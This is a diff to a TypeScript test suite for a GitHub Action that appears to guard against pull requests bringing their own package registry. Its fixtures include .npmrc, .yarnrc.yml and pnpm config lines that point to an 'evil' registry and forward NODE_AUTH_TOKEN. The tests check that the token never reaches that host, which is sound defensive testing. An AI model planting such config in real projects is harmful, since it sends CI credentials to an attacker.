@@ -7,10 +7,13 @@ import { GitHubServer } from '../helpers/github-server.js'
 import { examplePayload } from '../helpers/github-server-samples.js'
 import { startLoopbackRegistry, type LoopbackRegistry } from '../helpers/loopback-registry.js'
 import { sourceMap, writePackage, type PackageFiles } from '../helpers/packages.js'
-import { runAction } from '../helpers/runner.js'
+import { runAction, runBuiltAction } from '../helpers/runner.js'
 import { useSandbox } from '../helpers/sandbox.js'
 
-/** The built Action on pull requests that bring a registry of their own: whom it asks, and with what. */
+/**
+ * The Action on pull requests that bring a registry of their own: whom it asks, and with what. Attacks on the registry
+ * are made on the built one, in a process of its own.
+ */
 
 const sandbox = useSandbox()
 /** In parts, so that it could not be mistaken for a real one. */
@@ -78,7 +81,7 @@ interface Seen {
   readonly output: string
 }
 
-async function act(scene: Scene): Promise<Seen> {
+async function act(scene: Scene, run = runAction): Promise<Seen> {
   const { event = 'pull_request', baseIsThere = true, path = '.', npmrc = `registry=${good.url}\n` } = scene
   const { workspace, commit } = repository(scene)
   server.fail('repos/get-content', { kind: 'read-only' }, Infinity)
@@ -88,7 +91,7 @@ async function act(scene: Scene): Promise<Seen> {
   else if (event !== 'push') (payload.pull_request as { base: Record<string, unknown> }).base.sha = base
   const userconfig = join(writePackage(sandbox.folder('user'), { '.npmrc': npmrc }), '.npmrc')
   const env = { NPM_CONFIG_USERCONFIG: userconfig, NODE_AUTH_TOKEN: token, ...scene.env }
-  const result = await runAction({ sandbox, server, workspace, event, payload, env, with: { path } })
+  const result = await run({ sandbox, server, workspace, event, payload, env, with: { path } })
   const report = JSON.parse(readFileSync(result.outputs.report ?? '', 'utf8')) as Verdict | NoVerdict
   const findings = 'findings' in report ? report.findings.map(({ level, ruleId }) => `${level} ${ruleId}`) : []
   return { report, findings, output: result.stdout + result.stderr }
@@ -97,8 +100,10 @@ async function act(scene: Scene): Promise<Seen> {
 const evilRc = (): string => `registry=${evil.url}\n//${evil.host}/:_authToken=\${NODE_AUTH_TOKEN}\n`
 
 describe('a pull request that brings a registry of its own', () => {
+  const attack = (scene: Scene): Promise<Seen> => act(scene, runBuiltAction)
+
   it.each(['pull_request', 'merge_group'])('is compared with the release of the trusted one, on %s', async (event) => {
-    const { report, findings, output } = await act({ base: {}, head: { '.npmrc': evilRc() }, event })
+    const { report, findings, output } = await attack({ base: {}, head: { '.npmrc': evilRc() }, event })
     expect(evil.asked).toEqual([])
     expect(good.asked.length).toBeGreaterThan(0)
     expect(good.asked.every(({ headers }) => headers.authorization === undefined)).toBe(true)
@@ -124,7 +129,7 @@ describe('a pull request that brings a registry of its own', () => {
     ['.yarnrc.yml', (): PackageFiles => ({ '.yarnrc.yml': `npmRegistryServer: ${evil.url}\n`, 'yarn.lock': '' })],
     ['pnpm-workspace.yaml', (): PackageFiles => ({ 'pnpm-workspace.yaml': `registry: ${evil.url}\n` })],
   ])('in %s is no more trusted', async (_what, head) => {
-    await act({ base: {}, head: head() })
+    await attack({ base: {}, head: head() })
     expect(evil.asked).toEqual([])
   })
 
@@ -174,13 +179,13 @@ describe('a pull request that brings a registry of its own', () => {
       () => ({ head: { '.npmrc': `registry=${good.url}away/${encodeURIComponent(evil.url)}/\n` } }),
     ],
   ])('%s is never asked', async (_what, scene) => {
-    await act({ base: {}, ...scene() })
+    await attack({ base: {}, ...scene() })
     expect(evil.asked).toEqual([])
     expect(good.asked.every(({ url }) => !url.includes('away'))).toBe(true)
   })
 
   it('by taking the package out of its workspace is compared with the release of the trusted one', async () => {
-    const { report, findings } = await act({
+    const { report, findings } = await attack({
       path: 'packages/a',
       npmrc: `registry=${evil.url}\n`,
       base: {
@@ -204,7 +209,7 @@ describe('a pull request that brings a registry of its own', () => {
       },
     })
     const base = { '.npmrc': `registry=${away.url}\n//${away.host}/:_authToken=\${NODE_AUTH_TOKEN}\n` }
-    await act({ base, head: { '.npmrc': evilRc() } })
+    await attack({ base, head: { '.npmrc': evilRc() } })
     expect(away.asked[0]?.headers.authorization).toBe(`Bearer ${token}`)
     expect(evil.asked.length).toBeGreaterThan(0)
     expect(evil.asked.every(({ headers }) => headers.authorization === undefined)).toBe(true)
@@ -220,7 +225,7 @@ describe('a pull request that brings a registry of its own', () => {
   })
 
   it('has no verdict where the base branch can not be read', async () => {
-    const { report } = await act({ base: {}, head: { '.npmrc': evilRc() }, baseIsThere: false })
+    const { report } = await attack({ base: {}, head: { '.npmrc': evilRc() }, baseIsThere: false })
     expect(report).toMatchObject({ conclusion: 'error', error: { code: 'EREGISTRY' } })
     expect([evil.asked, good.asked]).toEqual([[], []])
   })
